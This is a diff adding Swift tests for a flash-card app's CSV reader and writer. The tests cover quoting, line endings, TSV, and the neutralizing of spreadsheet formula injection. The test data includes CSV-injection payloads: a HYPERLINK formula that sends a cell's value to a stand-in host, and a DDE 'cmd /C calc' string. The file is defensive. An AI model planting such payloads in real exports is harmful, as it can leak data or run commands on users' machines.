@@ -1,0 +1,66 @@
+import Testing
+
+@testable import FlashCardsInterchange
+
+/// RFC 4180 as read and written through the CSV library, with the lines records start on.
+@Suite struct CSVRecordsTests {
+  private func read(_ text: String, _ delimiter: Unicode.Scalar = ",") throws -> [CSVRecord] {
+    try CSVRecords.read(text, delimiter: delimiter)
+  }
+
+  @Test func quotedFieldsDoubledQuotesAndLineBreaksInside() throws {
+    let text = "a,\"b, c\"\n\"say \"\"hi\"\"\",d\n\"two\nlines\",e\nf,g\n"
+    #expect(
+      try read(text) == [
+        CSVRecord(line: 1, fields: ["a", "b, c"]), CSVRecord(line: 2, fields: [#"say "hi""#, "d"]),
+        CSVRecord(line: 3, fields: ["two\nlines", "e"]), CSVRecord(line: 5, fields: ["f", "g"]),
+      ])
+  }
+
+  @Test func crlfLineEndsAByteOrderMarkAndBlankLines() throws {
+    let text = "\u{FEFF}a,b\r\n\r\n\"x\r\ny\",z\r\nlast,row"
+    #expect(
+      try read(text) == [
+        CSVRecord(line: 1, fields: ["a", "b"]), CSVRecord(line: 3, fields: ["x\r\ny", "z"]),
+        CSVRecord(line: 5, fields: ["last", "row"]),
+      ])
+  }
+
+  @Test func aQuoteNeverClosedIsAnErrorNamingItsLine() throws {
+    #expect(throws: InterchangeError.unclosedQuote(line: 2)) { try read("a,b\n\"c,d\ne,f\n") }
+    // A stray quote inside an unquoted cell, as messy sheets have, is kept as text.
+    #expect(try read("5\" screen,big\nx,y\n").map(\.fields) == [[#"5" screen"#, "big"], ["x", "y"]])
+  }
+
+  @Test func tabsSeparateTSV() throws {
+    #expect(try read("a b\t\"c\td\"\n", "\t") == [CSVRecord(line: 1, fields: ["a b", "c\td"])])
+  }
+
+  @Test func writtenRowsReadBackTheSame() throws {
+    let rows = [["front", "back"], ["a, b", #"say "hi""#], ["two\nlines", "é 東 🇫🇷"], ["", "x"]]
+    let text = CSVRecords.write(rows, keepingFormulas: true)
+    #expect(try read(text).map(\.fields) == rows)
+    #expect(text.hasSuffix("\n"))
+  }
+
+  /// OWASP's CSV injection advice: a cell a spreadsheet would evaluate starts with '.
+  @Test(arguments: [
+    (#"=HYPERLINK("http://x.example/?q="&A1,"click")"#, #""'=HYPERLINK(""http://x.example/?q=""&A1,""click"")""#),
+    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("+1+1", "'+1+1"),
+    ("-2+3", "'-2+3"),
+    ("=1", "'=1"),
+    ("\tab", "'\tab"),
+    ("\r=1", "\"'\r=1\""),
+    ("-3", "-3"),
+    ("+7", "+7"),
+    ("12.5", "12.5"),
+    ("-0.25", "-0.25"),
+    ("capitals", "capitals"),
+    ("a=b", "a=b"),
+    ("", ""),
+  ])
+  func cellsThatWouldBeFormulasAreNeutralized(text: String, cell: String) {
+    #expect(CSVRecords.line([text]) == cell)
+  }
+}
